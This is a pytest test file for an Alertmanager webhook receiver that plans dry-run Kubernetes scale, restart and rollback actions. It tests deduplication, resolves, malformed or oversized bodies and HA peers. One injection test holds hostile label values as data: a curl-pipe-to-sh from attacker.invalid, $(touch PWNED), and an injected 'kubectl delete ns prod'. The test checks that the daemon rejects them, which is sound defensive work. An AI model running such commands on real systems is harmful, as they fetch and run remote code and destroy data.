"""The webhook receiver, fed the payloads a real Alertmanager sends."""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import sqlite3
from pathlib import Path

import pytest

from tests.daemon.conftest import Daemon, MakeDaemon
from tests.daemon.payloads import alert, body, notification, resolved

P95 = "LLMLatencyP95Critical"


async def test_real_capture_is_accepted(daemon: Daemon, shared_samples: Path) -> None:
    """A notification captured from Alertmanager 0.25 is accepted as one new episode."""
    data = (shared_samples / "alertmanager" / "real-am-0.25-firing.json").read_bytes()

    status, reply = await daemon.post(data)

    assert (status, reply["new"], reply["alerts"]) == (200, 1, 1)


async def test_real_group_firing_then_partly_then_fully_resolved(
        make_daemon: MakeDaemon, shared_samples: Path) -> None:
    """Alertmanager 0.25's own sends: one decision for the group, each resolve closes its alert."""
    folder = shared_samples / "alertmanager"
    daemon = await make_daemon(raw=_custom("QueueDepthHigh", "scale", replicas=6))
    firing_now = []

    for name in ("grouped-firing", "grouped-partly-resolved", "grouped-resolved"):
        status, _ = await daemon.post((folder / f"real-am-0.25-{name}.json").read_bytes())
        await daemon.settle()
        _, firing = await daemon.api("GET", "/api/v1/alerts")
        firing_now.append((status, sorted(e["labels"]["queue"] for e in firing)))

    assert firing_now == [(200, ["q_a", "q_b"]), (200, ["q_b"]), (200, [])]
    assert [(d.type, d.target, d.replicas, len(d.episodes)) for d in await daemon.decisions()] == [
        ("scale", "default/deployment/worker", 6, 2)]
    assert daemon.sample("remediator_recovery_seconds_count") == 2
    assert daemon.sample("remediator_alerts_total", status="resolved") == 2


async def test_firing_alert_gives_one_dry_run_decision_in_the_history(daemon: Daemon) -> None:
    """A p95 critical alert is answered by one recorded dry-run scale of the gateway."""
    item = alert(P95, fingerprint="a1b2c3d4e5f60708")

    status, _ = await daemon.post(notification(item))
    await daemon.settle()
    code, history = await daemon.api("GET", "/api/v1/actions")

    assert status == 200 and code == 200
    [entry] = history
    assert {k: entry[k] for k in ("type", "target", "outcome")} == {
        "type": "scale", "target": "default/deployment/llm-gateway", "outcome": "dry_run"}
    assert entry["command"] == ("kubectl scale deployment llm-gateway --replicas=5"
                                " --namespace=default")
    assert entry["reason"].startswith("would run: kubectl scale")
    assert entry["alert"] == {"alertname": P95, "fingerprint": "a1b2c3d4e5f60708",
                              "startsAt": "2024-05-01T10:00:00.000000+00:00"}
    assert isinstance(entry["id"], int) and entry["time"].startswith("2024-05-01T10:00:30")
    # What was carried out keeps why it was planned.
    assert entry["details"]["causes"] == ["p95 CRITICAL"] and entry["details"]["rationale"]


async def test_each_alert_is_judged_by_its_own_status(make_daemon: MakeDaemon) -> None:
    """A group that is firing with one resolved alert acts only on the firing one (FR 4)."""
    daemon = await make_daemon(raw=_custom("HighLatencyP99", "scale", replicas=5))
    checkout = alert("HighLatencyP99", namespace="shop", deployment="checkout",
                     fingerprint="1111111111111111")
    payments = alert("HighLatencyP99", status="resolved", namespace="shop",
                     deployment="payments", starts_at="2024-05-01T09:40:00Z",
                     ends_at="2024-05-01T09:58:00Z", fingerprint="2222222222222222")
    document = notification(checkout, payments)
    document["commonLabels"] = {"alertname": "HighLatencyP99", "namespace": "shop"}

    await daemon.post(document)
    await daemon.settle()

    assert [(d.type, d.target, d.outcome) for d in await daemon.decisions()] == [
        ("scale", "shop/deployment/checkout", "dry_run")]


async def test_resolved_notification_closes_the_episode_without_acting(
        make_daemon: MakeDaemon) -> None:
    """A resolve never runs the action again (FR 5) and records the time to recovery."""
    daemon = await make_daemon(raw=_custom("KubePodCrashLooping", "restart"))
    item = alert("KubePodCrashLooping", namespace="shop", deployment="api")

    await daemon.post(notification(item))
    await daemon.settle()
    daemon.clock.advance(360)
    await daemon.post(notification(resolved(item)))
    await daemon.settle()

    assert [(d.type, d.target) for d in await daemon.decisions()] == [
        ("restart", "shop/deployment/api")]
    assert daemon.sample("remediator_recovery_seconds_count") == 1
    assert daemon.sample("remediator_recovery_seconds_sum") == 360


async def test_ha_duplicates_make_one_decision(daemon: Daemon) -> None:
    """The same group from both Alertmanagers of an HA pair, firing and resolved (FR 1)."""
    item = alert(P95)
    am1 = "http://am-1.example.internal:9093"

    replies = [await daemon.post(notification(item)),
               await daemon.post(notification(item, external_url=am1))]
    await daemon.settle()
    daemon.clock.advance(360)
    replies += [await daemon.post(notification(resolved(item))),
                await daemon.post(notification(resolved(item), external_url=am1))]
    await daemon.settle()

    assert [status for status, _ in replies] == [200] * 4
    assert [reply["repeat"] for _, reply in replies] == [False, True, False, True]
    assert len(await daemon.decisions()) == 1
    assert daemon.sample("remediator_notifications_total", result="repeat") == 2
    assert daemon.sample("remediator_recovery_seconds_count") == 1


async def test_late_firing_copy_does_not_reopen_a_resolved_episode(daemon: Daemon) -> None:
    """A firing send that arrives after the resolve (slow HA peer) changes nothing."""
    item = alert(P95)

    await daemon.post(notification(item))
    await daemon.post(notification(resolved(item)))
    status, reply = await daemon.post(notification(item))
    await daemon.settle()

    assert (status, reply["repeat"]) == (200, True)
    assert daemon.services.remediation.book.firing(now=daemon.clock()) == []


async def test_new_episodes_are_in_the_store_when_the_200_comes_and_repeats_write_nothing(
        make_daemon: MakeDaemon, tmp_path: Path) -> None:
    """Before the worker looks at it, the episode is on disk; fifty repeats add no write."""
    from remediator.leadership import Leadership
    from remediator.state.base import EpisodeRecord
    from remediator.state.sqlite import FILENAME

    daemon = await make_daemon(leadership=Leadership(leader=False))
    store = daemon.services.store
    writes: list[int] = []
    original = store.save_episodes

    async def counting(episodes: object) -> None:
        writes.append(1)
        await original(episodes)  # type: ignore[arg-type]

    status, _ = await daemon.post(notification(alert(P95, fingerprint="a1b2c3d4e5f60708")))
    # Read the file itself, read-only: the daemon holds the state directory's lock.
    uri = f"file:{tmp_path / 'state' / FILENAME}?mode=ro"
    with contextlib.closing(sqlite3.connect(uri, uri=True)) as reader:
        rows = reader.execute("SELECT data FROM episodes").fetchall()
    stored = [(e.fingerprint, e.status)
              for e in (EpisodeRecord.from_json(json.loads(data)) for (data,) in rows)]
    store.save_episodes = counting  # type: ignore[method-assign]
    for _ in range(50):
        await daemon.post(notification(alert(P95, fingerprint="a1b2c3d4e5f60708")))

    assert status == 200
    assert stored == [("a1b2c3d4e5f60708", "firing")]
    assert writes == []
    assert daemon.sample("remediator_notifications_total", result="repeat") == 50


async def test_retry_storm_of_one_payload_gives_one_action(daemon: Daemon) -> None:
    """One payload sent 200 times, 20 at once, gives one decision and 199 repeats."""
    data = body(notification(alert(P95)))
    gate = asyncio.Semaphore(20)

    async def send() -> int:
        async with gate:
            status, _ = await daemon.post(data)
            return status

    statuses = await asyncio.gather(*(send() for _ in range(200)))
    await daemon.settle()

    assert set(statuses) == {200}
    assert len(await daemon.decisions()) == 1
    assert daemon.sample("remediator_notifications_total", result="new") == 1
    assert daemon.sample("remediator_notifications_total", result="repeat") == 199


async def test_legacy_and_malformed_bodies_are_refused_with_the_field(
        daemon: Daemon, shared_samples: Path) -> None:
    """v3, non-JSON, wrong types and a missing alerts list get 400 naming the field."""
    legacy = (shared_samples / "alertmanager" / "prometheus-bot-legacy-v3.json").read_bytes()
    wrong_type = body({**notification(alert(P95)), "alerts": {"a": 1}})
    missing = body({k: v for k, v in notification(alert(P95)).items() if k != "alerts"})
    bad_label = body(notification(alert(P95, replicas="5")) | {"alerts": [
        {**alert(P95), "labels": {"alertname": P95, "replicas": 5}}]})

    replies = [await daemon.post(data) for data in
               (legacy, b"not json", b"[1, 2]", wrong_type, missing, bad_label)]

    assert [status for status, _ in replies] == [400] * 6
    assert [reply["field"] for _, reply in replies] == [
        "version", None, None, "alerts", "alerts", "alerts[0].labels.replicas"]
    assert daemon.sample("remediator_webhook_requests_total", code="400") == 6
    assert daemon.sample("remediator_notifications_total", result="rejected") == 6
    assert await daemon.decisions() == []


async def test_body_over_the_limit_is_413(daemon: Daemon) -> None:
    """A 15 MiB group is refused with 413, not a 500 and not an out-of-memory."""
    filler = "x" * 600
    alerts = [alert(P95, pod=f"pod-{n}", fingerprint=f"{n:016x}",
                    annotations={"description": filler}) for n in range(20000)]
    data = body(notification(*alerts))
    assert len(data) > 15 * 1024 * 1024

    status, _ = await daemon.post(data)

    assert status == 413
    assert daemon.sample("remediator_webhook_requests_total", code="413") == 1


async def test_bodies_python_cannot_read_are_400_and_a_bug_is_counted_as_500(
        daemon: Daemon, monkeypatch: pytest.MonkeyPatch) -> None:
    """
    A number past Python's digit limit is a 400 and an encoded body a 415,
    each naming the problem; an unexpected failure is a 500 that the webhook
    counter (and so the shipped health alert) sees.
    """
    huge = b'{"version": "4", "alerts": [], "x": 1' + b"0" * 5000 + b"}"

    digits, too_long = await daemon.post(huge)
    encoded, not_gzip = await daemon.post(body(notification(alert(P95))),
                                          headers={"Content-Encoding": "gzip"})

    def broken(*args: object, **kwargs: object) -> None:
        raise RuntimeError("a bug")

    monkeypatch.setattr(daemon.services.remediation, "receive", broken)
    failed, _ = await daemon.post(notification(alert(P95)))

    assert (digits, too_long["error"]) == (
        400, "webhook: body holds a number too long to read (more than 4300 digits)")
    assert (encoded, not_gzip["field"]) == (415, "Content-Encoding")
    assert "gzip" in not_gzip["error"]
    assert failed == 500
    assert daemon.sample("remediator_webhook_requests_total", code="500") == 1
    assert daemon.sample("remediator_webhook_requests_total", code="415") == 1


async def test_storm_group_of_3000_alerts_gives_one_action(daemon: Daemon) -> None:
    """A 1.6 MB group with truncatedAlerts is accepted and makes one decision (FR 8)."""
    filler = "y" * 400
    alerts = [alert(P95, namespace="shop", deployment="checkout", pod=f"checkout-{n}",
                    annotations={"description": filler}) for n in range(3000)]
    data = body(notification(*alerts, truncated=1200))
    assert len(data) > 1_500_000

    status, reply = await daemon.post(data)
    await daemon.settle()

    assert (status, reply["new"]) == (200, 3000)
    assert len(await daemon.decisions()) == 1
    assert daemon.sample("remediator_truncated_alerts_total") == 1200


async def test_alerts_for_one_target_in_one_notification_make_one_decision(
        make_daemon: MakeDaemon) -> None:
    """Four alerts of one rule (FR 9) or three rules (FR 10) on one target: one action."""
    daemon = await make_daemon(raw=_custom(
        ("KubePodCrashLooping", "KubePodNotReady", "KubeContainerWaiting"), "restart"))
    rules = ("KubePodCrashLooping", "KubePodNotReady", "KubeContainerWaiting")
    alerts = [alert(name, namespace="shop", deployment="api", pod=f"api-{n}")
              for n, name in enumerate(rules)]

    await daemon.post(notification(*alerts))
    await daemon.settle()

    [decision] = await daemon.decisions()
    assert (decision.type, decision.target) == ("restart", "shop/deployment/api")
    assert len(decision.episodes) == 3


async def test_three_rules_in_concurrent_notifications_make_one_restart(
        make_daemon: MakeDaemon) -> None:
    """Three groups posted at once, each asking to restart shop/api: one restart (FR 10 B)."""
    rules = ("KubePodCrashLooping", "KubePodNotReady", "KubeContainerWaiting")
    daemon = await make_daemon(raw=_custom(rules, "restart"))

    await asyncio.gather(*(
        daemon.post(notification(alert(name, namespace="shop", deployment="api")))
        for name in rules))
    await daemon.settle()

    done = [d for d in await daemon.decisions() if d.outcome == "dry_run"]
    assert [(d.type, d.target) for d in done] == [("restart", "shop/deployment/api")]


async def test_injection_in_labels_never_becomes_an_action(
        make_daemon: MakeDaemon, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Target labels that try shell injection are rejected and recorded; the reply is 2xx."""
    monkeypatch.chdir(tmp_path)
    daemon = await make_daemon(raw=_custom("HighLatencyP99", "scale", replicas=5))
    hostile = [
        {"namespace": "shop", "deployment": "checkout'; curl -s http://attacker.invalid/x | sh"},
        {"namespace": "shop", "deployment": "$(touch PWNED)"},
        {"namespace": "shop\nkubectl delete ns prod", "deployment": "checkout"},
        {"namespace": "shop", "deployment": "Checkout_Service"},
    ]
    alerts = [alert("HighLatencyP99", annotations={"summary": "`id` and $(id) and '\"q\""},
                    **labels) for labels in hostile]

    status, _ = await daemon.post(notification(*alerts))
    await daemon.settle()

    decisions = await daemon.decisions()
    assert status == 200
    assert [(d.outcome, d.skip, d.command) for d in decisions] == [
        ("skipped", "invalid_target", None)] * 4
    assert daemon.sample("remediator_skips_total", reason="invalid_target") == 4
    assert "PWNED" not in os.listdir(tmp_path)


async def test_namespace_outside_the_allowed_ones_is_an_unknown_target(
        make_daemon: MakeDaemon) -> None:
    """A custom alert naming a namespace we may not touch is rejected as unknown_target."""
    daemon = await make_daemon(raw=_custom("HighLatencyP99", "scale", replicas=5))

    await daemon.post(notification(alert("HighLatencyP99", namespace="kube-system",
                                         deployment="coredns")))
    await daemon.settle()

    [decision] = await daemon.decisions()
    assert (decision.outcome, decision.skip) == ("skipped", "unknown_target")


async def test_rule_labels_name_the_action_of_a_custom_alert(make_daemon: MakeDaemon) -> None:
    """A custom alert without an action in the config acts as its labels say, or not at all."""
    daemon = await make_daemon(raw={
        "targets": {"allowed_namespaces": ["shop"]},
        "alerts": {"custom": [{"alertname": "ServingDegraded", "priority": 1}]},
    })

    status, _ = await daemon.post(notification(
        alert("ServingDegraded", namespace="shop", deployment="api", action="scale",
              replicas="4"),
        alert("ServingDegraded", namespace="shop", deployment="web", action="drop-tables"),
    ))
    await daemon.settle()

    assert status == 200
    assert sorted((d.type, d.target, d.outcome, d.skip) for d in await daemon.decisions()) == [
        ("custom", None, "skipped", "invalid_action"),
        ("scale", "shop/deployment/api", "dry_run", "dry_run"),
    ]
    assert daemon.sample("remediator_skips_total", reason="invalid_action") == 1


async def test_group_key_with_quotes_is_opaque(daemon: Daemon, caplog: object) -> None:
    """A groupKey full of braces and quotes, and non-ASCII labels, round-trip safely (FR 7)."""
    group_key = ('{}/{severity=~"^(?:page)$"}:{alertname="LLMLatencyP95Critical",'
                 ' namespace="shop"}')
    item = alert(P95, team="équipe-paiement")

    status, _ = await daemon.post(notification(item, group_key=group_key))
    await daemon.settle()
    _, firing = await daemon.api("GET", "/api/v1/alerts")

    assert status == 200
    assert firing[0]["labels"]["team"] == "équipe-paiement"


def _custom(names: str | tuple[str, ...], action: str, **fields: object) -> dict[str, object]:
    """A settings document mapping custom alerts to an action, targets from labels."""
    alertnames = (names,) if isinstance(names, str) else names
    return {
        "targets": {"allowed_namespaces": ["default", "shop"]},
        "alerts": {"custom": [
            {"alertname": name, "action": action, "priority": 1, **fields}
            for name in alertnames
        ]},
    }


def test_payload_helper_writes_compact_json() -> None:
    """The helper writes Alertmanager's compact single-line JSON."""
    data = body(notification(alert(P95)))

    assert data.endswith(b"}\n") and b"\n" not in data[:-1]
    assert json.loads(data)["version"] == "4"


async def test_an_inhibited_warning_leaves_the_firing_set_though_its_resolve_never_comes(
        daemon: Daemon) -> None:
    """
    Alertmanager sends no resolve for an alert it muted (prometheus/alertmanager#2754):
    once the group's notification no longer carries the warning, it stops firing
    for us, and when the critical resolves nothing is left to act on.
    """
    warning = alert("LLMLatencyP95Warning", namespace="default")
    critical = alert(P95, namespace="default")
    error_rate = alert("LLMErrorRateCritical", namespace="default")
    group = '{}:{namespace="default"}'

    await daemon.post(notification(warning, group_key=group))
    await daemon.settle()
    await daemon.post(notification(critical, group_key=group))  # the warning is inhibited
    await daemon.settle()
    _, during = await daemon.api("GET", "/api/v1/alerts")
    await daemon.post(notification(resolved(critical), group_key=group))
    await daemon.settle()
    _, after = await daemon.api("GET", "/api/v1/alerts")
    await daemon.post(notification(error_rate, group_key='{}:{alertname="errors"}'))
    await daemon.settle()

    assert [e["alertname"] for e in during] == [P95]
    assert after == []
    # The error rate alone: its rollbacks, not a combined action with a stale p95.
    assert [d.type for d in await daemon.decisions()] == ["scale", "scale", "rollback",
                                                          "rollback"]


async def test_an_alert_left_out_of_a_truncated_notification_still_fires(daemon: Daemon) -> None:
    """`truncatedAlerts`: Alertmanager's max_alerts cut the rest, which still fire."""
    one, two = alert(P95, pod="a"), alert(P95, pod="b")
    group = '{}:{deployment="llm-gateway"}'

    await daemon.post(notification(one, two, group_key=group))
    await daemon.settle()
    await daemon.post(notification(two, group_key=group, truncated=1))
    await daemon.settle()
    _, firing = await daemon.api("GET", "/api/v1/alerts")

    assert sorted(e["labels"]["pod"] for e in firing) == ["a", "b"]


async def test_an_alert_back_in_its_group_fires_again_without_a_new_decision(
        daemon: Daemon) -> None:
    """Muted, then sent again (the silence expired): firing, and already decided."""
    one, two = alert(P95, pod="a"), alert(P95, pod="b")
    group = '{}:{deployment="llm-gateway"}'

    await daemon.post(notification(one, two, group_key=group))
    await daemon.settle()
    await daemon.post(notification(two, group_key=group))
    await daemon.settle()
    _, muted = await daemon.api("GET", "/api/v1/alerts")
    status, reply = await daemon.post(notification(one, two, group_key=group))
    await daemon.settle()
    _, back = await daemon.api("GET", "/api/v1/alerts")

    assert [e["labels"]["pod"] for e in muted] == ["b"]
    assert status == 200 and reply["new"] == 0
    assert sorted(e["labels"]["pod"] for e in back) == ["a", "b"]
    assert len(await daemon.decisions()) == 1


async def test_an_alert_left_out_stays_out_after_a_restart(make_daemon: MakeDaemon) -> None:
    """Stored as left out: a restarted daemon does not take it for firing again."""
    critical = alert(P95, namespace="default")
    throughput = alert("LLMThroughputLowWarning", namespace="default")
    group = '{}:{namespace="default"}'
    first = await make_daemon()
    await first.post(notification(critical, throughput, group_key=group))
    await first.settle()
    await first.post(notification(throughput, group_key=group))
    await first.settle()
    firing_gauge = first.sample("remediator_episodes_firing")
    await first.client.close()

    restarted = await make_daemon()
    await restarted.settle()
    _, firing = await restarted.api("GET", "/api/v1/alerts")
    status, reply = await restarted.post(notification(critical, throughput, group_key=group))
    await restarted.settle()
    _, back = await restarted.api("GET", "/api/v1/alerts")

    assert firing_gauge == 1
    assert [e["alertname"] for e in firing] == ["LLMThroughputLowWarning"]
    assert status == 200 and reply["new"] == 0
    assert sorted(e["alertname"] for e in back) == [P95, "LLMThroughputLowWarning"]


async def test_each_alertmanager_of_a_pair_is_followed_on_its_own(daemon: Daemon) -> None:
    """
    Peers that see a group differently for a while do not take turns taking an
    alert out and bringing it back; a notification without alerts says nothing.
    """
    critical, throughput = alert(P95), alert("LLMThroughputLowWarning")
    group = '{}:{namespace="default"}'
    for _ in range(3):
        await daemon.post(notification(critical, throughput, group_key=group,
                                       external_url="http://am-0:9093"))
        await daemon.post(notification(critical, group_key=group,
                                       external_url="http://am-1:9093"))
        await daemon.post(notification(group_key=group, external_url="http://am-0:9093"))
        await daemon.settle()
    _, firing = await daemon.api("GET", "/api/v1/alerts")

    assert sorted(e["alertname"] for e in firing) == [P95, "LLMThroughputLowWarning"]
    assert daemon.sample("remediator_notifications_total", result="new") == 1
